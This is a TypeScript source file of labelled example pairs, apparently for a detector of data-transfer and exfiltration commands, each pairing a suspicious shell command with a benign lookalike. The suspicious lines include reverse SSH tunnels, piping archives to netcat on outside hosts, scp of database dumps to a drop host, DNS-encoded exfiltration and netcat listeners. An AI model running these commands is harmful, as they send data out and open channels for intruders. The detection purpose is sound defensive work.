import type { Examples } from "../example.ts";
import { examplesOf, start } from "./build.ts";

/** Data that leaves, and channels to others: out and in, outside and inside, all and a part. */
export const TRANSFER_EXAMPLES: Examples = examplesOf(
  String.raw`
tunnel :: ssh -N -R 2222:localhost:22 tunnel@203.0.113.40 :: ssh -N -L 5432:db:5432 bastion
port-forwarded :: ssh -N -L 5432:db:5432 bastion :: ssh -l ann bastion
file-uploaded :: curl -T /tmp/o2.tgz ftp://198.51.100.70/ :: curl -T build.tgz http://nexus.internal/repo/
files-copied-out :: scp /var/backups/db.sql.gz drop@198.51.100.77:/srv/in :: scp drop@198.51.100.77:/srv/in/db.sql.gz /var/backups
files-copied-to-tmp-elsewhere :: scp -r /opt/tools root@10.1.7.77:/dev/shm/ :: scp -r /opt/tools root@10.1.7.77:/opt/
files-copied-to-cloud :: rclone copy /srv/share mega:dump --transfers 32 :: rclone copy mega:dump /srv/share
files-piped-out :: bash -c tar czf - /srv | nc 203.0.113.5 9000 :: bash -c echo ruok | nc zk1 2181
data-in-dns :: dig +short 6d7973656372c0ffee01.t.exfil-dns.example TXT :: dig +short www.example.com
data-in-dns-piped :: bash -c xxd -p /srv/a | while read l; do dig $l.t.example.com; done :: bash -c xxd -p /srv/a | head
files-packed :: tar czf /tmp/o.tgz /etc /home/deploy :: tar czf release.tgz build
database-dumped-odd :: mysqldump --all-databases -r /var/www/html/d.sql :: mysqldump app -r /backup/app.sql
database-dumped :: pg_dump -Fc app -f /backup/app.dump :: pg_restore -d app /backup/app.dump
raw-connection :: nc 203.0.113.5 9000 :: nc -zv 203.0.113.5 443
encrypted-connection :: openssl s_client -quiet -connect 198.51.100.9:8000 :: openssl s_client -connect www.example.com:443 -servername www.example.com
port-tried :: telnet db.internal 5432 :: telnet localhost 25
listener-opened :: nc -lvnp 4444 :: nc -h
files-served :: python3 -m http.server 8000 :: python3 -m http.server 8000 --bind 127.0.0.1
`,
  start,
);
